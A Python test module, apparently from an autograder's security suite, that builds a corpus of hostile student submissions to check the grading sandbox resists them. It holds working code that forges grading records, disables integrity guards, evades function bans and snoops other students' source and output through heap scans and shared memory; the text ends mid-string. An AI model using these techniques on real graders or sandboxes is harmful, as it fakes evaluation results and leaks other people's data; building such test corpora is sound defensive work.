"""A corpus of hostile submissions ("attacks") against the grading engine's trust boundary.

Each case is the reference solutions with ONE hostile change, built like
`build_cases` in tests/test_adversarial.py. Most attacks pair the forgery with
functions that are wrong or unimplemented (the exercise's stub, or a classic
mistake from graders/mistakes/), so that every point above the `base`
variant's score (the same files with the hostile part removed) was not earned
by behaviour.

`CASES[name]` holds:
- `files`: {exercise id: full source} replacing the solutions (see gradekit.write_folder);
- `attack_class`: one of ATTACK_CLASSES;
- `exercise`: the exercise file the attack lives in;
- `base`: {exercise id: source}, the same submission without the hostile part (its honest score);
- `what`: one line; "does not work today because ..." when the current engine stops it.
Optional keys used by tests/run_attack_corpus.py:
- `slow`: grade with the course's real 5 s time limit (slow-chatter cases);
- `leak`: {label: marker string} that must not reach this student's report or record (snooping cases);
- `victim`: the name of the case whose data this case tries to read (it must be graded earlier,
  in the same zygote: names sort victims first, and the runner grades with one zygote).

Under a sound engine every case scores at most its base's score, no `leak` marker reaches any output,
and the controls are unaffected. Attacks name today's internals (Trial, run_trial, GUARD, RUBRICS, the
zygote's frames); against an engine without them they fail at import, which costs only their own exercise.

Attack lines carry a `# ATTACK:` comment. `python tests/run_attack_corpus.py` grades the corpus.
"""

from __future__ import annotations

import textwrap

from gradekit import EXERCISES, ROOT, after_imports, mistake, replace_function, solution

ATTACK_CLASSES = (
    "recorder-frames", "recorder-sys-modules", "recorder-import-tensorgrade", "channel-raw-fd", "guard-tamper",
    "cross-exercise", "ban-thread", "ban-tamper", "ban-copy", "slow-chatter", "heap-snoop", "shm-snoop",
    "hidden-grader-source", "other",
)

EX1, EX2, EX3, EX4, EX5, EX6 = EXERCISES[:6]  # the six the attacks aim at; a course may have more

# Unique strings the snooping cases hunt for. They must never appear in another student's outputs.
SHM_MARKER = "TG-SHM-PAYLOAD-c0ffee"  # left in SysV / POSIX shared memory by the writer
GRADER_MARKERS = ("def _nonsquare(t):", "def second_derivative(g, x, v):")  # grader source, never shipped


def stub(exercise: str) -> str:
    """The untouched student stub (every function raises NotImplementedError)."""
    return (ROOT / "exercises" / f"{exercise}.py").read_text()


def wrong(exercise: str, name: str) -> str:
    """A classic mistake from graders/mistakes/<exercise>/<name>.py (a whole exercise file)."""
    return mistake(exercise, name).read_text()


def code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


def oracle(*exercises: str) -> str:
    """Module-level code defining `_ORACLE[exercise] = {name: correct function}`: the forger's private answers.

    The forged recorders grade these instead of the submitted (wrong) functions. The sources are embedded as
    string constants, so the graded names in the file stay wrong.
    """
    sources = {ex: solution(ex) for ex in exercises}
    return code(f"""
        # ATTACK: the forger's private, correct implementation, kept out of the graded names.
        _ORACLE = {{}}
        for _ex, _src in {sources!r}.items():
            _ORACLE[_ex] = {{"__name__": _ex}}
            exec(compile(_src, "<oracle " + _ex + ">", "exec"), _ORACLE[_ex])
    """)


# A replacement for Trial.call that grades the oracle of the trial's exercise instead of the student's module,
# with no ban; everything else (on_call, after_call, the "returns" observation) is the real code's.
FORGED_CALL = code("""
    _real_call = _Trial.call

    def _forged_call(self, name, *args):
        fake = _ORACLE.get(self.functions.get("__name__"))
        if fake is None:
            return _real_call(self, name, *args)
        saved = self.functions, self._banned
        self.functions, self._banned = fake, {}  # ATTACK: the trial now calls the oracle, unbanned
        try:
            return _real_call(self, name, *args)
        finally:
            self.functions, self._banned = saved

    _Trial.call = _forged_call  # ATTACK: a class attribute; the guard only snapshots module dicts and Tensor
""")

# Oracle-free lies about ex3's scale_untracked result (the classic mistake returns a tracked x * factor): these are
# the facts the reference records for an untracked result. Used by the expect/settrace/guard cases.
SCALE_LIES = {
    "requires_grad of the result": (False, "no"),
    "grad_fn of the result": (None, "None"),
    "the result is connected to x in the autograd graph": (False, "not connected"),
}

# Lying versions of three rubric facts, for tensors the student tagged with `_tg_lie` (ex3 guard cases).
FACT_LIES = code("""
    def _lying(real, lie):
        def fact(*args):
            if getattr(args[0], "_tg_lie", False):  # ATTACK: lie only about tensors the student returned
                return lie
            return real(*args)
        return fact

    def _install_lies(facts):
        facts.requires_grad = _lying(facts.requires_grad, False)
        facts.grad_fn_name = _lying(facts.grad_fn_name, None)
        facts.graph_path = _lying(facts.graph_path, None)
""")

SCALE_TAGGED = """
    def scale_untracked(x, factor):
        out = x * factor  # the classic mistake: tracked
        out._tg_lie = True  # ATTACK: tag the result so the lying facts recognise it
        return out
"""

FIND_CHILD_BY_TRACEBACK = code("""
    # ATTACK: no sys, no gc, no flagged name: the traceback of a caught exception is a frame handle.
    try:
        raise LookupError
    except LookupError as _exc:
        _frame = _exc.__traceback__.tb_frame
    while _frame is not None and _frame.f_globals.get("__name__") != "tensorgrade.run.child":
        _frame = _frame.f_back  # module code <- importlib <- child._import_student <- child.run
    _child_globals = _frame.f_globals
    del _frame
""")

RUN_JOB_FRAME = code("""
    def _run_frame():
        # ATTACK: the child's run(job, emit) frame, found from a caught exception's traceback.
        try:
            raise LookupError
        except LookupError as exc:
            frame = exc.__traceback__.tb_frame
        while frame is not None and not (frame.f_code.co_name == "run" and "job" in frame.f_locals):
            frame = frame.f_back
        return frame
""")

EMIT_FRAMES = code("""
    import json as _json
    import os as _os
    import struct as _struct

    def _frame_out(kind, obj):
        # ATTACK: a well-formed child->zygote frame written straight to the message pipe (fd 3):
        # one type byte (M message, D done) + 4-byte big-endian length + JSON
        body = _json.dumps(obj, separators=(",", ":")).encode()
        data = memoryview(kind + _struct.pack(">I", len(body)) + body)
        while data:
            data = data[_os.write(3, data):]
""")


def on_stub(exercise: str, attack: str) -> str:
    """The exercise's stub with `attack` run at import."""
    return after_imports(stub(exercise), attack)


def fn(source: str, name: str, body: str) -> str:
    return replace_function(source, name, body)


# ---------------------------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------------------------
def _recorder_cases() -> dict[str, dict]:
    cases = {}
    cases["rec_frames_traceback"] = dict(
        attack_class="recorder-frames", exercise=EX1, base={EX1: stub(EX1)},
        what="ex1 stubs; at import a caught exception's tb_frame.f_back chain reaches child.run's globals and "
             "Trial.call is replaced to grade a hidden oracle (no flagged name used)",
        files={EX1: on_stub(EX1, oracle(EX1) + FIND_CHILD_BY_TRACEBACK
                             + "_Trial = _child_globals['Trial']  # ATTACK: the recorder class itself\n"
                             + FORGED_CALL)},
    )
    cases["rec_frames_getframe_run_trial"] = dict(
        attack_class="recorder-frames", exercise=EX4, base={EX4: stub(EX4)},
        what="ex4 stubs; sys._getframe walk to child.run, then the child's global run_trial is replaced by one "
             "that swaps trial.functions for a hidden oracle (child.py's globals are not guarded)",
        files={EX4: on_stub(EX4, oracle(EX4) + code("""
            import sys
            _frame = sys._getframe()
            while _frame.f_globals.get("__name__") != "tensorgrade.run.child":
                _frame = _frame.f_back  # ATTACK: walk up to the child's frames
            _g = _frame.f_globals
            _real_run_trial = _g["run_trial"]

            def _forged_run_trial(check, trial):
                fake = _ORACLE.get(trial.functions.get("__name__"))
                if fake is not None:
                    trial.functions, trial._banned = fake, {}  # ATTACK: the check now runs on the oracle
                return _real_run_trial(check, trial)

            _g["run_trial"] = _forged_run_trial  # ATTACK: rebinds the name child.run calls for every check
        """))},
    )
    cases["rec_frames_generator_expect"] = dict(
        attack_class="recorder-frames", exercise=EX3, base={EX3: wrong(EX3, "scale_tracked")},
        what="ex3 classic mistake scale_tracked (result stays tracked); a running generator's gi_frame.f_back "
             "reaches child.run and Trial.expect rewrites three facts to the reference's values (no oracle)",
        files={EX3: after_imports(wrong(EX3, "scale_tracked"), code(f"""
            _LIES = {SCALE_LIES!r}

            def _climb():
                yield _gen.gi_frame.f_back  # ATTACK: while running, a generator's frame links to its caller

            _gen = _climb()
            _frame = next(_gen)
            while _frame.f_globals.get("__name__") != "tensorgrade.run.child":
                _frame = _frame.f_back
            _Trial = _frame.f_globals["Trial"]
            _real_expect = _Trial.expect

            def _forged_expect(self, what, value, *, show=None, hint=None):
                if what in _LIES:
                    value, show = _LIES[what]  # ATTACK: record the reference's fact instead of the real one
                return _real_expect(self, what, value, show=show, hint=hint)

            _Trial.expect = _forged_expect  # ATTACK: expect_connection goes through expect too
            del _frame, _gen
        """))},
    )
    cases["rec_sysmodules_call"] = dict(
        attack_class="recorder-sys-modules", exercise=EX5, base={EX5: stub(EX5)},
        what="ex5 stubs; sys.modules['tensorgrade.run.child'].Trial.call replaced to grade a hidden oracle",
        files={EX5: on_stub(EX5, oracle(EX5) + code("""
            import sys
            _Trial = sys.modules["tensorgrade.run.child"].Trial  # ATTACK: no frames needed
        """) + FORGED_CALL)},
    )
    cases["rec_sysmodules_whole_course"] = dict(
        attack_class="recorder-sys-modules", exercise=EX1, base={ex: stub(ex) for ex in EXERCISES},
        what="all six exercises left as stubs; ex1's import replaces Trial.call (via sys.modules) for every "
             "later exercise too, with an oracle for the whole course",
        files={**{ex: stub(ex) for ex in EXERCISES},
               EX1: on_stub(EX1, oracle(*EXERCISES) + code("""
                   import sys
                   _Trial = sys.modules["tensorgrade.rubric.trial"].Trial  # ATTACK: the class every exercise uses
               """) + FORGED_CALL)},
    )
    cases["rec_import_tensorgrade"] = dict(
        attack_class="recorder-import-tensorgrade", exercise=EX6, base={EX6: stub(EX6)},
        what="ex6 stubs; `from tensorgrade.rubric.trial import Trial` and Trial.call replaced to grade an oracle",
        files={EX6: on_stub(EX6, oracle(EX6) + code("""
            from tensorgrade.rubric.trial import Trial as _Trial  # ATTACK: the rubric is importable in the sandbox
        """) + FORGED_CALL)},
    )
    cases["rec_import_tensorgrade_expect_tensor"] = dict(
        attack_class="recorder-import-tensorgrade", exercise=EX5, base={EX5: wrong(EX5, "vjp_ignores_v")},
        what="ex5 classic mistake vjp_ignores_v; `import tensorgrade.rubric.trial`, Trial.call keeps each call's "
             "arguments and Trial.expect_tensor records the oracle's vjp of them instead of the student's value",
        files={EX5: after_imports(wrong(EX5, "vjp_ignores_v"), oracle(EX5) + code("""
            import tensorgrade.rubric.trial as _trial_module  # ATTACK: import the recorder's module

            _Trial = _trial_module.Trial
            _real_call, _real_expect_tensor = _Trial.call, _Trial.expect_tensor

            def _keeping_call(self, name, *args):
                self._tg_last = (name, args)  # ATTACK: remember what the function under test was given
                return _real_call(self, name, *args)

            def _forged_expect_tensor(self, what, value, *, hint=None):
                name, args = getattr(self, "_tg_last", (None, ()))
                if name == "vjp" and what.startswith("v"):  # "vᵀ·∂f/∂x": the returned product
                    value = _ORACLE["ex5_autograd_grad"]["vjp"](*args)  # ATTACK: record the right answer
                return _real_expect_tensor(self, what, value, hint=hint)

            _Trial.call, _Trial.expect_tensor = _keeping_call, _forged_expect_tensor
        """))},
    )
    cases["other_subclasses_walk"] = dict(
        attack_class="other", exercise=EX2, base={EX2: wrong(EX2, "descend_without_clearing")},
        what="ex2 classic mistake descend_without_clearing; object.__subclasses__() finds the Trial class "
             "(no sys, no import, no frames) and Trial.call is replaced to grade an oracle",
        files={EX2: after_imports(wrong(EX2, "descend_without_clearing"), oracle(EX2) + code("""
            # ATTACK: every class is reachable from object; Trial subclasses object directly
            _Trial = next(c for c in object.__subclasses__() if c.__name__ == "Trial" and hasattr(c, "expect_tensor"))
        """) + FORGED_CALL)},
    )
    return cases


def _channel_cases() -> dict[str, dict]:
    forge = code("""
        _job = _run_frame().f_locals["job"]  # ATTACK: this student's exercises, check ids and seeds
        import tensorgrade.run.child as _child
        from tensorgrade.rubric.trial import Trial as _Trial, run_trial as _run_trial

        for _ex in _job["exercises"]:
            if _ex["id"] not in _FORGE:
                continue
            _frame_out(b"M", {"ev": "exercise", "exercise": _ex["id"]})
            for _check in _ex["checks"]:
                # ATTACK: the record the reference would produce: the real check on the oracle, same seed
                _check_fn = _child.RUBRICS[_ex["id"]].checks[_check["id"]]
                _rec = _run_trial(_check_fn, _Trial(_ORACLE[_ex["id"]], _check["seed"]))
                _frame_out(b"M", {"ev": "record", "exercise": _ex["id"], "check": _check["id"], "record": _rec})
        _frame_out(b"D", {})  # ATTACK: "done", then leave before the real grading writes anything
        _os._exit(0)
    """)
    cases = {}
    cases["channel_fd3_whole_course"] = dict(
        attack_class="channel-raw-fd", exercise=EX1, base={ex: stub(ex) for ex in EXERCISES},
        what="all six exercises left as stubs; ex1's import writes forged record frames for every check of "
             "the course to fd 3, a done frame, then os._exit(0)",
        files={**{ex: stub(ex) for ex in EXERCISES},
               EX1: on_stub(EX1, oracle(*EXERCISES) + RUN_JOB_FRAME + EMIT_FRAMES
                            + f"_FORGE = {list(EXERCISES)!r}\n" + forge)},
    )
    cases["channel_fd3_last_exercise"] = dict(
        attack_class="channel-raw-fd", exercise=EX6, base={EX6: wrong(EX6, "jacobian_transposed")},
        what="ex6 classic mistake jacobian_transposed; at ex6's import (ex1-ex5 graded honestly before) forged "
             "ex6 record frames + done frame on fd 3, then os._exit(0)",
        files={EX6: after_imports(wrong(EX6, "jacobian_transposed"), oracle(EX6) + RUN_JOB_FRAME + EMIT_FRAMES
                                  + f"_FORGE = [{EX6!r}]\n" + forge)},
    )
    return cases


def _guard_cases() -> dict[str, dict]:
    base = wrong(EX3, "scale_tracked")
    cases = {}
    cases["guard_restore_replaced"] = dict(
        attack_class="guard-tamper", exercise=EX3, base={EX3: base},
        what="ex3 mistake scale_tracked; GUARD.restore replaced on the instance (via sys.modules) so three "
             "rubric facts patched at import lie about the tagged result and are never undone or reported",
        files={EX3: fn(after_imports(base, FACT_LIES + code("""
            import sys
            _child = sys.modules["tensorgrade.run.child"]
            _child.GUARD.restore = lambda: []  # ATTACK: the guard now restores nothing and reports nothing
            _install_lies(sys.modules["tensorgrade.rubric.facts"])
        """)), "scale_untracked", SCALE_TAGGED)},
    )
    cases["guard_builtins_all"] = dict(
        attack_class="guard-tamper", exercise=EX3, base={EX3: base},
        what="ex3 mistake scale_tracked; builtins.all patched so the guard's fast path believes every namespace "
             "unchanged; lying rubric facts then stay in place and nothing is reported",
        files={EX3: fn(after_imports(base, FACT_LIES + code("""
            import builtins
            import sys
            _real_all = builtins.all

            def _all(iterable):
                if sys._getframe(1).f_globals.get("__name__") == "tensorgrade.rubric.guard":
                    return True  # ATTACK: the guard's `all(map(is_, now, before))` fast path says "unchanged"
                return _real_all(iterable)

            builtins.all = _all
            _install_lies(sys.modules["tensorgrade.rubric.facts"])
        """)), "scale_untracked", SCALE_TAGGED)},
    )
    cases["guard_code_swap"] = dict(
        attack_class="guard-tamper", exercise=EX3, base={EX3: base},
        what="ex3 mistake scale_tracked; the rubric's fact functions keep their identity but get a new __code__ "
             "(the guard compares identities only), so they lie about the tagged result",
        files={EX3: fn(after_imports(base, code("""
            import tensorgrade.rubric.facts as _facts
            import types as _types

            # The originals survive under new names (a module dict may grow: the guard only checks old keys).
            _facts._tg_graph_path = _types.FunctionType(_facts.graph_path.__code__, _facts.__dict__, "graph_path")

            def requires_grad(t):
                if getattr(t, "_tg_lie", False):
                    return False
                return safe.requires_grad(t) if safe.is_tensor(t) else None

            def grad_fn_name(t):
                if getattr(t, "_tg_lie", False) or not safe.is_tensor(t):
                    return None
                fn = safe.grad_fn(t)
                return None if fn is None else type(fn).__name__

            def graph_path(y, x):
                return None if getattr(y, "_tg_lie", False) else _tg_graph_path(y, x)

            for _f in (requires_grad, grad_fn_name, graph_path):
                getattr(_facts, _f.__name__).__code__ = _f.__code__  # ATTACK: same function object, new body
        """)), "scale_untracked", SCALE_TAGGED)},
    )
    cases["guard_poison_snapshot"] = dict(
        attack_class="guard-tamper", exercise=EX3, base={EX3: base},
        what="ex3 mistake scale_tracked; the lying rubric facts are written into the guard's own snapshot "
             "(GUARD.snapshots / GUARD.values), so the guard 'restores' the lies and reports nothing",
        files={EX3: fn(after_imports(base, FACT_LIES + code("""
            import sys
            _guard = sys.modules["tensorgrade.run.child"].GUARD
            _facts = sys.modules["tensorgrade.rubric.facts"]
            _install_lies(_facts)
            _guard.snapshots["tensorgrade.rubric.facts"] = dict(_facts.__dict__)  # ATTACK: the lies are "original"
            _guard.values["tensorgrade.rubric.facts"] = tuple(_facts.__dict__.values())
        """)), "scale_untracked", SCALE_TAGGED)},
    )
    cases["guard_control_plain_patch"] = dict(
        attack_class="guard-tamper", exercise=EX3, base={EX3: base},
        what="control: ex3 mistake scale_tracked patching the rubric facts from inside the call, guard intact; "
             "does not work today because the guard restores the facts before the check records them",
        files={EX3: fn(base + "\n\n" + FACT_LIES, "scale_untracked", """
            def scale_untracked(x, factor):
                import sys
                _install_lies(sys.modules["tensorgrade.rubric.facts"])  # ATTACK: undone by GUARD.restore
                out = x * factor
                out._tg_lie = True
                return out
        """)},
    )
    return cases


def _cross_cases() -> dict[str, dict]:
    sol5 = solution(EX5)
    last_grads = """
        _calls = [0]


        def grads(f, inputs):
            out = tuple(torch.autograd.grad(f(*inputs), inputs))
            _calls[0] += 1
            if _calls[0] == 2:  # ex5's last graded call: whatever is set here stays for ex6
                {payload}
            return out
    """
    cases = {}
    cases["cross_grad_disabled"] = dict(
        attack_class="cross-exercise", exercise=EX5, base={},
        what="ex5 correct but its last call runs torch.set_grad_enabled(False); the correct ex6 then runs "
             "without autograd (global torch state is not part of the guard)",
        files={EX5: fn(sol5, "grads", last_grads.format(payload="torch.set_grad_enabled(False)  # ATTACK"))},
    )
    cases["cross_default_dtype"] = dict(
        attack_class="cross-exercise", exercise=EX1, base={},
        what="ex1 correct but its last call runs torch.set_default_dtype(torch.float64); ex2-ex6 (correct) run "
             "with a different default dtype",
        files={EX1: fn(solution(EX1), "gradient", """
            _calls = [0]


            def gradient(f, x):
                f(x).backward()
                _calls[0] += 1
                if _calls[0] == 2:  # ex1's last graded call
                    torch.set_default_dtype(torch.float64)  # ATTACK: process-wide, never restored
                return x.grad
        """)},
    )
    cases["cross_default_device_meta"] = dict(
        attack_class="cross-exercise", exercise=EX1, base={},
        what="ex1 correct but its last call runs torch.set_default_device('meta') (a global TorchFunctionMode); "
             "every tensor the later graders create is an empty meta tensor",
        files={EX1: fn(solution(EX1), "gradient", """
            _calls = [0]


            def gradient(f, x):
                f(x).backward()
                _calls[0] += 1
                if _calls[0] == 2:
                    torch.set_default_device("meta")  # ATTACK: a mode on torch's global mode stack
                return x.grad
        """)},
    )
    cases["cross_builtins_with_blind_guard"] = dict(
        attack_class="cross-exercise", exercise=EX5, base={},
        what="ex5 correct; at import builtins.all blinds the guard's fast path, and ex5's last call replaces "
             "builtins.range with an empty range: the correct ex6 builds no rows",
        files={EX5: fn(after_imports(sol5, code("""
            import builtins
            import sys
            _real_all, _real_range = builtins.all, builtins.range

            def _all(iterable):
                if sys._getframe(1).f_globals.get("__name__") == "tensorgrade.rubric.guard":
                    return True  # ATTACK: the guard believes nothing changed
                return _real_all(iterable)

            builtins.all = _all
        """)), "grads", last_grads.format(payload="builtins.range = lambda *a: _real_range(0)  # ATTACK"))},
    )
    cases["cross_builtins_plain"] = dict(
        attack_class="cross-exercise", exercise=EX5, base={},
        what="control: ex5 correct, its last call replaces builtins.range; does not work today because the "
             "guard restores builtins after the call (and flags it)",
        files={EX5: fn(after_imports(sol5, "import builtins\n_real_range = builtins.range\n"), "grads",
                       last_grads.format(payload="builtins.range = lambda *a: _real_range(0)  # ATTACK"))},
    )
    return cases


def _ban_cases() -> dict[str, dict]:
    base = wrong(EX6, "by_rows_uses_functional")
    cases = {}
    cases["ban_thread"] = dict(
        attack_class="ban-thread", exercise=EX6, base={EX6: base},
        what="ex6 jacobian_by_rows calls torch.autograd.functional.jacobian in a _thread.start_new_thread "
             "thread, which gets no profile hook (threading.setprofile only covers threading.Thread)",
        files={EX6: fn(base, "jacobian_by_rows", """
            def jacobian_by_rows(f, x):
                import _thread

                done, box = _thread.allocate_lock(), []
                done.acquire()

                def work():
                    try:
                        box.append(torch.autograd.functional.jacobian(f, x))  # ATTACK: banned, but unwatched here
                    finally:
                        done.release()

                _thread.start_new_thread(work, ())
                done.acquire()
                return box[0]
        """)},
    )
    cases["ban_getprofile_clear"] = dict(
        attack_class="ban-tamper", exercise=EX6, base={EX6: base},
        what="ex6 jacobian_by_rows empties the ban's file table through sys.getprofile().__self__.files, then "
             "calls torch.autograd.functional.jacobian",
        files={EX6: fn(base, "jacobian_by_rows", """
            def jacobian_by_rows(f, x):
                import sys

                ban = sys.getprofile().__self__  # ATTACK: the profile hook is a bound method of the Ban
                ban.files.clear()  # ATTACK: nothing is banned any more (the dict is shared by later calls too)
                return torch.autograd.functional.jacobian(f, x)
        """)},
    )
    cases["ban_copy_exec"] = dict(
        attack_class="ban-copy", exercise=EX6, base={EX6: base},
        what="ex6 jacobian_by_rows execs a copy of torch/autograd/functional.py compiled under another file "
             "name (the ban matches code by file name) and calls its jacobian",
        files={EX6: fn(base, "jacobian_by_rows", """
            _COPY = {}


            def jacobian_by_rows(f, x):
                if not _COPY:
                    import torch.autograd.functional as banned

                    with open(banned.__file__) as fh:  # the installed torch is readable in the sandbox
                        source = fh.read()
                    _COPY.update(__name__="torch.autograd._my_functional", __package__="torch.autograd")
                    exec(compile(source, "my_functional.py", "exec"), _COPY)  # ATTACK: same code, other file name
                return _COPY["jacobian"](f, x)
        """)},
    )
    return cases


def _slow_cases() -> dict[str, dict]:
    slow = """
        {prelude}
        _first = [True]


        def gradient(f, x):
            import time

            if _first[0]:
                _first[0] = False
                for _ in range(15):  # 15 s: three times the 5 s limit
                    time.sleep(1)
                    {chatter}
            f(x).backward()
            return x.grad
    """
    find_trial = textwrap.indent(code("""
        def _trial():
            # the Trial whose call() is running us: its on_call hook is the child's emit()
            try:
                raise LookupError
            except LookupError as exc:
                frame = exc.__traceback__.tb_frame
            while frame is not None and type(frame.f_locals.get("self")).__name__ != "Trial":
                frame = frame.f_back
            return frame.f_locals["self"]
    """), " " * 8).strip() + "\n\n"
    base = fn(solution(EX1), "gradient", slow.format(prelude="", chatter="pass"))
    on_call = fn(solution(EX1), "gradient", slow.format(
        prelude=find_trial, chatter="_trial()._on_call('gradient')  # ATTACK: an emitted frame resets the deadline"))
    fd3 = fn(after_imports(solution(EX1), EMIT_FRAMES), "gradient", slow.format(
        prelude="", chatter="_frame_out(b'M', {'ev': 'tick'})  # ATTACK: any frame resets the idle deadline"))
    prints = fn(solution(EX1), "gradient", slow.format(prelude="", chatter="print('still working', flush=True)"))
    common = dict(exercise=EX1, base={EX1: base}, slow=True)
    return {
        "slow_chatter_on_call": dict(
            attack_class="slow-chatter", files={EX1: on_call}, **common,
            what="ex1 gradient sleeps 15 s on its first call (limit 5 s) but calls the running Trial's on_call "
                 "hook every second: each emitted 'call' frame resets the zygote's idle deadline"),
        "slow_chatter_fd3": dict(
            attack_class="slow-chatter", files={EX1: fd3}, **common,
            what="ex1 gradient sleeps 15 s on its first call but writes a junk M frame to fd 3 every second"),
        "slow_chatter_print": dict(
            attack_class="slow-chatter", files={EX1: prints}, **common,
            what="control: ex1 gradient sleeps 15 s printing every second; does not work today because only "
                 "channel frames (not output) reset the idle deadline"),
    }


def heap_needle(tag: str) -> str:
    """What a heap snooper searches for: a victim's markers are this + "SOURCE-..." / "PRINTED-..."."""
    return f"TG-VICTIM-{tag}-"


def heap_markers(tag: str) -> dict[str, str]:
    secret = {"A": "7f3a9c", "B": "51be02", "C": "d41d8c"}[tag]
    return {"source": f"{heap_needle(tag)}SOURCE-{secret}", "output": f"{heap_needle(tag)}PRINTED-{secret}"}


def _snoop_cases() -> dict[str, dict]:
    def victim(tag: str, pad: int = 0) -> str:
        m = heap_markers(tag)
        # The source marker is only in the source, the output marker only in the output.
        return after_imports(solution(EX2), code(f"""
            # {m["source"]}: this student's private notes, which no other student should ever see
            NOTES = "{m["source"]} my answers: accumulate, zero_grad_, descend"
            print(NOTES.split()[0].replace("SOURCE", "PRINTED"), "debug: my intermediate values", flush=True)
        """)) + "".join(f"# scratch notes, line {i}: {m['source']}\n" for i in range(pad)) + f"# end ({m['source']})\n"

    # The snoopers' own sources hold only the needle, never a whole marker: a marker in a snooper's
    # report came from another student.
    scan = code("""
        def _hits(text, needle, found):
            at = text.find(needle)
            while at != -1 and len(found) < 20:
                if text.startswith(("SOURCE", "PRINTED"), at + len(needle)):
                    found.add(text[max(0, at - 60): at + 120])
                at = text.find(needle, at + 1)
    """)
    frames_snoop = after_imports(solution(EX2), scan + code(f"""
        import json
        import sys

        _frame, _found = sys._getframe(), set()
        while _frame is not None:  # ATTACK: the zygote's own frames are on the child's stack
            for _name, _value in list(_frame.f_locals.items()):
                try:  # serve()'s `outcome` still holds the previous student's messages and output
                    _text = json.dumps(getattr(_value, "__dict__", _value), default=repr)
                except Exception:
                    continue
                _hits(_text, {heap_needle("A")!r}, _found)
            _frame = _frame.f_back
        print("frames found:", sorted(_found))  # ATTACK: lands in this student's report
    """))
    gc_snoop = after_imports(solution(EX2), scan + code(f"""
        import gc

        gc.unfreeze()  # ATTACK: the zygote froze its heap before forking; unfreeze makes it visible to gc
        _found = set()
        for _obj in gc.get_objects():
            for _ref in gc.get_referents(_obj):  # strings are not gc-tracked: look inside every container
                if type(_ref) is str and len(_ref) >= 20:
                    _hits(_ref, {heap_needle("B")!r}, _found)
                elif type(_ref) is bytes and len(_ref) >= 20:
                    _hits(_ref.decode("utf-8", "replace"), {heap_needle("B")!r}, _found)
        print("heap (gc) found:", sorted(_found))
    """))
    raw_snoop = after_imports(solution(EX2), scan + code(f"""
        import ctypes

        _found = set()
        with open("/proc/self/maps") as _maps:
            _regions = [line.split() for line in _maps]
        for _r in _regions:
            if len(_r) < 5 or not _r[1].startswith("rw") or (len(_r) > 5 and not _r[5].startswith("[heap")):
                continue  # anonymous or [heap] writable regions: malloc arenas, pymalloc pools
            _lo, _hi = (int(v, 16) for v in _r[0].split("-"))
            if _hi - _lo > 1 << 30:
                continue
            # ATTACK: read raw memory, freed blocks included, not just live objects
            _hits(ctypes.string_at(_lo, _hi - _lo).decode("latin-1"), {heap_needle("C")!r}, _found)
        print("raw heap found:", sorted(_found))
    """))
    shm_key = 0x54470001
    sysv_writer = after_imports(solution(EX3), code(f"""
        import ctypes

        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
        _libc.shmat.argtypes, _libc.shmat.restype = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int], ctypes.c_void_p
        _libc.shmdt.argtypes = [ctypes.c_void_p]
        _payload = open(__file__, "rb").read()[:60000] + b"\\n{SHM_MARKER}\\n"  # this student's whole source
        _id = _libc.shmget({shm_key}, 65536, 0o1666)  # ATTACK: IPC_CREAT | 0666; outlives the process
        _addr = _libc.shmat(_id, None, 0)
        ctypes.memmove(_addr, _payload, len(_payload))
        _libc.shmdt(_addr)
    """))
    sysv_reader = after_imports(solution(EX3), code(f"""
        import ctypes

        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
        _libc.shmat.argtypes, _libc.shmat.restype = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int], ctypes.c_void_p
        _id = _libc.shmget({shm_key}, 0, 0)  # ATTACK: the segment an earlier student left in this IPC namespace
        if _id >= 0:
            _addr = _libc.shmat(_id, None, 0o10000)  # SHM_RDONLY
            print("sysv shm found:", ctypes.string_at(_addr, 65536).split(b"\\0", 1)[0].decode("utf-8", "replace"))
        else:
            print("sysv shm found: nothing, errno", ctypes.get_errno())
    """))
    posix_writer = after_imports(solution(EX3), code(f"""
        from multiprocessing import resource_tracker, shared_memory

        _shm = shared_memory.SharedMemory(name="tg_attack_corpus", create=True, size=4096)
        _data = b"{SHM_MARKER} " + open(__file__, "rb").read()[:3000]
        _shm.buf[: len(_data)] = _data  # ATTACK: left in /dev/shm for the next student
        resource_tracker.unregister(_shm._name, "shared_memory")  # do not let Python unlink it at exit
    """))
    posix_reader = after_imports(solution(EX3), code("""
        from multiprocessing import shared_memory

        try:
            _shm = shared_memory.SharedMemory(name="tg_attack_corpus")  # ATTACK: what an earlier student left
            print("posix shm found:", bytes(_shm.buf).split(b"\\0", 1)[0].decode("utf-8", "replace"))
        except OSError as exc:
            print("posix shm found: nothing,", exc)
    """))
    cases = {}
    for tag, snoop, files, what in (
        ("A", "heap_a2_frames", frames_snoop,
         "graded right after its victim: walks sys._getframe() up to the zygote's serve() frame, whose "
         "`outcome` local still holds the previous student's messages (records) and output (today that "
         "output and those records leak; the victim's source is no longer alive)"),
        ("B", "heap_b2_gc", gc_snoop,
         "gc.unfreeze() + gc.get_objects() + gc.get_referents(): every live str/bytes of the forked zygote heap, "
         "scanned for the previous student's markers (today: its output leaks, its source is freed)"),
        ("C", "heap_c2_raw", raw_snoop,
         "ctypes.string_at over the writable anonymous/[heap] regions of /proc/self/maps: freed memory of the "
         "zygote (earlier students' job requests and replies) scanned; fragments of the victim's 20 KB source "
         "survive there (which fragments survive varies from run to run)"),
    ):
        m = heap_markers(tag)
        cases[f"heap_{tag.lower()}1_victim"] = dict(
            attack_class="heap-snoop", exercise=EX2, base={}, files={EX2: victim(tag, 400 if tag == "C" else 0)},
            what=f"victim: correct ex2 whose source holds {m['source']} and which prints {m['output']}"
                 + (" (400 lines of notes: a 20 KB file)" if tag == "C" else ""))
        cases[snoop] = dict(attack_class="heap-snoop", exercise=EX2, base={}, files={EX2: files}, leak=m,
                            victim=f"heap_{tag.lower()}1_victim", what=what)
    cases.update({
        "shm_a_writer_sysv": dict(
            attack_class="shm-snoop", exercise=EX3, base={}, files={EX3: sysv_writer},
            what="colluder/victim: leaves its whole source in a SysV shared memory segment (key 0x54470001)"),
        "shm_b_reader_sysv": dict(
            attack_class="shm-snoop", exercise=EX3, base={}, files={EX3: sysv_reader}, leak={"source": SHM_MARKER},
            victim="shm_a_writer_sysv",
            what="a later student in the same zygote attaches the SysV segment (the zygote's IPC namespace and "
